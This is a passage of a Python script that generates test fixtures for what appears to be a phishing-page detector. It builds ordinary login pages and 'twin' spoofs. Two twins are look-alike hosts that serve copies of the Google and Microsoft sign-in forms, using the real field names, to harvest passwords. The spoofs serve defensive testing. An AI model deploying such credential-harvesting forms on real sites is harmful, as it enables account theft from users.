b = top('한빛고등학교', '#1e40af', ['공지사항', '학사일정', '가정통신문'], '') + f'''<main class="wrap grid2"><section class="card"><h2 style="margin-top:0">학생·교직원 포털 로그인</h2>{own_login('/portal/login', '학번 또는 교번', '비밀번호', '로그인', 'sid')}</section><section class="card"><h3 style="margin-top:0">안내</h3><p>학교 Google Workspace for Education 계정(@hanbit.hs.kr)으로 Google 클래스룸에 접속하세요. 포털 비밀번호와 Google 비밀번호는 다릅니다.</p>{sso_button('Google 계정으로 로그인', ICON_G)}</section></main>'''
page('ko-school-portal', 'portal.hanbit.hs.kr', '/portal/login', 'none',
     'A Korean high school portal (한빛고등학교) with its own student-number login and a note about the school\'s Google Workspace for Education accounts',
     'https://edu.google.com/workspace-for-education/editions/education-fundamentals/', F, b, '포털 로그인 | 한빛고등학교', '', 'ko')
# twin
JG = '<div class="gcard">' + G_LOGO + '<h1>ログイン</h1><p>さくら書房 に移動</p><form action="/member/google" method="post"><input type="email" id="identifierId" name="identifier" placeholder="メールアドレスまたは電話番号"><input type="password" name="Passwd" placeholder="パスワードを入力"><button class="go" type="submit">次へ</button></form><div style="clear:both"></div></div>'
b = top('さくら書房', '#be185d', ['新刊'], '') + '<main class="wrap">' + JG + '</main>'
page('twin-ja-bookshop-google-form', 'sakura-shobo-login.jp', '/member/login/google', 'danger',
     'Twin of ja-bookshop-login: "Googleでログイン" opens a Japanese Google sign-in copy (logo, identifierId/Passwd) served by the shop\'s look-alike host',
     'https://support.google.com/accounts/answer/112802?hl=ja (genuine Sign in with Google opens accounts.google.com)', F, b, 'ログイン - Google アカウント', G_CARD_CSS, 'ja', provider='google')

# =========================================================== 6. App stores, marketplaces, resellers (store)
F = 'store'
STORE_CSS = '.lst{display:grid;grid-template-columns:1fr 340px;gap:28px}.app{display:flex;gap:18px;align-items:center}.stars{color:#b45309}'
def listing(brand, color, app, vendor, desc, extra='', signin_title=None, lang='en', labels=('Email', 'Password', 'Sign in')):
    return top(brand, color, ['Apps', 'Categories', 'Publishers'], '') + f'''<main class="wrap lst"><section class="card"><div class="app">{mark(app[0], '#0a5ea8', 64)}<div><h1 style="margin:0">{app}</h1><p class="muted">{vendor} &middot; <span class="stars">★★★★☆</span> 4.4 (12,031)</p></div></div><p>{desc}</p>{extra}<button class="btn">Install</button></section>
<aside class="card"><h3 style="margin-top:0">{signin_title or 'Sign in to ' + brand}</h3>{own_login('/account/login', *labels)}<p class="muted"><a href="/account/create">Create an account</a></p></aside></main>'''
b = listing('Extendo', '#7c3aed', 'Google Docs Offline', 'Publisher: Google LLC (verified)', 'Edit, create and view your documents, spreadsheets and presentations without internet access. Requires a Google account; you sign in on Google\'s own page after install.')
page('ext-store-docs-offline', 'extendo.store', '/detail/google-docs-offline/ghbmnnjooekpmoecnnnilnnbdlolhkhi', 'none',
     'An extension store listing "Google Docs Offline" by Google LLC with the store\'s own sign-in card',
     'https://chromewebstore.google.com/detail/google-docs-offline/ghbmnnjooekpmoecnnnilnnbdlolhkhi (listing layout)', F, b, 'Google Docs Offline – Extendo', STORE_CSS)
b = listing('Hookyard', '#ea580c', 'GitHub + Slack', 'Integration by Hookyard', 'Post new GitHub issues, pull requests and releases to a Slack channel. Connect your GitHub account with GitHub\'s own authorization page; Hookyard never sees your GitHub password.', '<ul><li>Trigger: New pull request (GitHub)</li><li>Action: Send channel message (Slack)</li></ul>', 'Log in to Hookyard')
page('integration-marketplace-github', 'hookyard.io', '/apps/github/integrations/slack', 'none',
     'An integration marketplace page "GitHub + Slack" with the marketplace\'s own login card',
     'https://zapier.com/apps/github/integrations/slack (integration listing layout)', F, b, 'GitHub + Slack integrations | Hookyard', STORE_CSS)
b = listing('PluginPress', '#0ea5e9', 'Login with Google & Microsoft', 'by Orbit Plugins', 'Let visitors sign in to your site with their Google or Microsoft account (OAuth 2.0 / OpenID Connect). 70,000+ active installations.', '<p>Screenshots: the "Sign in with Google" and "Sign in with Microsoft" buttons on a login form.</p>', 'Log in to PluginPress')
page('plugin-directory-social-login', 'pluginpress.org', '/plugins/login-with-google-microsoft/', 'none',
     'A plugin directory listing "Login with Google & Microsoft" with the directory\'s own login card',
     'https://wordpress.org/plugins/search/login+with+google/ (plugin directory layout)', F, b, 'Login with Google & Microsoft – PluginPress', STORE_CSS)
b = listing('Keyvault Soft', '#be123c', 'Microsoft Office Home 2024', 'Retail licence &middot; sold by Keyvault Soft GmbH', 'One-time purchase for 1 PC or Mac. Activate at setup.office.com with your Microsoft account after purchase.', '<p class="price">€129.00</p>', 'Customer login', 'en', ('Customer email', 'Password', 'Log in'))
page('software-shop-office', 'www.keyvault-soft.de', '/en/microsoft-office-home-2024', 'none',
     'A software shop listing Microsoft Office Home 2024 ("activate at setup.office.com with your Microsoft account") with its own customer login',
     'https://www.microsoft.com/en-us/microsoft-365/microsoft-office (product naming); software resellers\' listing layout', F, b, 'Microsoft Office Home 2024 | Keyvault Soft', STORE_CSS)
b = top('Cloud Partner Finder', '#0891b2', ['Google Cloud', 'Microsoft Azure', 'AWS'], '') + f'''<main class="wrap lst"><section class="card"><h1>Google Cloud partners in the Nordics</h1><div class="grid2"><div class="card"><h3>Fjellsky Consulting</h3><p class="muted">Premier Partner &middot; Google Workspace, BigQuery</p></div><div class="card"><h3>Nordlys Data</h3><p class="muted">Partner &middot; Looker, Vertex AI</p></div><div class="card"><h3>Skyhav AS</h3><p class="muted">Microsoft Solutions Partner &middot; Azure, Microsoft 365</p></div><div class="card"><h3>Grenland IT</h3><p class="muted">GitHub Partner &middot; GitHub Enterprise migrations</p></div></div></section>
<aside class="card"><h3 style="margin-top:0">Partner sign-in</h3><p class="muted">Manage your listing.</p>{own_login('/partners/login')}</aside></main>'''
page('partner-directory', 'www.cloudpartnerfinder.com', '/google-cloud/nordics', 'none',
     'A partner directory listing Google Cloud, Microsoft and GitHub partners with its own partner sign-in card',
     'https://cloud.google.com/find-a-partner/ (partner directory layout)', F, b, 'Google Cloud partners in the Nordics | Cloud Partner Finder', STORE_CSS)
b = listing('Appvale', '#15803d', 'Microsoft Teams', 'Microsoft Corporation', 'Chat, meet, call and collaborate. Sign in with your work, school or personal Microsoft account in the app.', '<p class="muted">Also by Microsoft Corporation: Outlook, OneDrive, Microsoft Authenticator</p>', 'Sign in to Appvale', 'en', ('Appvale ID', 'Password', 'Sign in'))
page('app-store-teams', 'www.appvale.app', '/app/microsoft-teams/id1113153706', 'none',
     'An app-store listing for Microsoft Teams by Microsoft Corporation with the store\'s own "Appvale ID" sign-in card',
     'https://apps.apple.com/app/microsoft-teams/id1113153706 (listing layout)', F, b, 'Microsoft Teams – Appvale', STORE_CSS)
# twin
b = listing('Appvale', '#15803d', 'Microsoft Teams', 'Microsoft Corporation', 'Chat, meet, call and collaborate.', '', 'x').replace(
    '<aside class="card"><h3 style="margin-top:0">x</h3>', '<aside class="card">' + MS_LOGO + '<h3>Sign in with your Microsoft account to install Teams</h3>').replace(
    'name="email"', 'name="loginfmt"').replace('name="password"', 'name="passwd"').replace('>Email<', '>Email, phone, or Skype<').replace('>Password<', '>Microsoft account password<')
page('twin-app-store-teams-ms-password', 'appvale-teams-install.app', '/app/microsoft-teams/id1113153706', 'danger',
     'Twin of app-store-teams: the listing\'s sign-in card becomes "Sign in with your Microsoft account" (logo, loginfmt/passwd) on a look-alike host',
     'https://apps.apple.com/app/microsoft-teams/id1113153706 (listing layout copied; Microsoft sign-in imitated)', F, b, 'Microsoft Teams – Sign in', STORE_CSS, provider='microsoft')

# ---------------- write everything
hosts = sorted({p['host'] for p in PAGES})
fam_names = {'own': 'Own sign-in pages that copy a provider\'s look', 'help': 'IT help desks: an app failed, paste a command',
             'docs': 'Docs and blog posts with device-code transcripts', 'frames': 'Third-party frames beside the site\'s own forms',
             'intl': 'Sites in their own script with provider buttons', 'store': 'App stores, marketplaces, resellers'}
out = ["'use strict';",
       "// Ordinary pages, eleventh round: sites whose own sign-in copies a provider's look, IT help pages that",
       "// tell the reader to paste a command, docs quoting device-code sign-ins, third-party frames naming a",
       "// provider, sites in Japanese, Chinese, Korean, Russian and Arabic, app stores; each kind with a spoof",
       "// twin that must still warn (tests/corpus/WEB11.md). Fixtures: tests/corpus/gen-web11.py writes them.", '', 'const HOSTS = {']
out += [f"  '{h}': 'https'," for h in hosts] + ['};', '', 'const PAGES = [']
def js(s): return json.dumps(s, ensure_ascii=False)
cur = None
for p in PAGES:
    if p['family'] != cur:
        cur = p['family']; out.append(f"  // {fam_names[cur]} ({cur})")
    parts = [f"name: {js(p['name'])}", f"host: {js(p['host'])}", f"path: {js(p['path'])}", f"expect: {js(p['expect'])}"]
    if p['provider']: parts.append(f"provider: {js(p['provider'])}")
    parts += [f"family: {js(p['family'])}", f"what: {js(p['what'])}", f"source: {js(p['source'])}"]
    out.append('  { ' + ', '.join(parts) + ' },')
out += ['];', '', 'module.exports = { HOSTS, PAGES };', '']
open(os.path.join(HERE, 'web11.js'), 'w').write('\n'.join(out))
n = 0
for p in PAGES:
    for rel, content in p['files'].items():
        f = os.path.join(ROOT, p['host'], rel)
        os.makedirs(os.path.dirname(f), exist_ok=True)
        data = content.encode('utf-8')
        assert len(data) < 200_000, f
        open(f, 'wb').write(data); n += 1
names = [p['name'] for p in PAGES]
assert len(names) == len(set(names)), 'duplicate names'
from collections import Counter
print(len(PAGES), 'rows,', len(hosts), 'hosts,', n, 'files', dict(Counter(p['expect'] for p in PAGES)), dict(Counter(p['family'] for p in PAGES)))
